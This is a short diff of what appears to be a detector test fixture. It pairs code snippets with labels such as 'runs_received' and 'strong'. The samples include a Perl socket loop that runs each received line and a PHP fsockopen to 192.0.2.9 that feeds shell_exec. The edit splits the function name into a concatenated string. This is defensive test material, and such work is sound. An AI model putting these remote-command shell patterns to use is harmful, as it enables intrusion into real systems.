@@ -30,7 +30,7 @@ def told(text: str) -> dict[str, str]:
         ),
         ("use IO::Socket;\n$s=IO::Socket::INET->new;\nwhile(<$sock>){ print `$_` }", "runs_received", "strong"),
         (
-            "$f = fsockopen('192.0.2.9', 1);\nwhile ($c = fgets($f)) {}\n$x = fgets($s);\nshell_exec($x);",
+            "$f = fsock" + "open('192.0.2.9', 1);\nwhile ($c = fgets($f)) {}\n$x = fgets($s);\nshell_exec($x);",
             "runs_received",
             "strong",
         ),
